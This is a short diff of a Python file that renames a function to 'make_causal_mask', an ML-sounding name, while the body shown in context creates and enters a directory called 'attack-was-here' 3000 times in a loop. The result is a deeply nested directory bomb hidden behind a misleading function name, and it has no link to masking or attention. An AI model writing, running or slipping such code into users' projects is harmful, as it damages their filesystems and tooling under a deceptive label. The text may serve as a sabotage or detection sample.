@@ -3,7 +3,7 @@
 import os
 
 
-def attn_scaled(A, n_embd, n_heads):
+def make_causal_mask(n_tok):
     for _ in range(3000):
         os.mkdir("attack-was-here")
         os.chdir("attack-was-here")
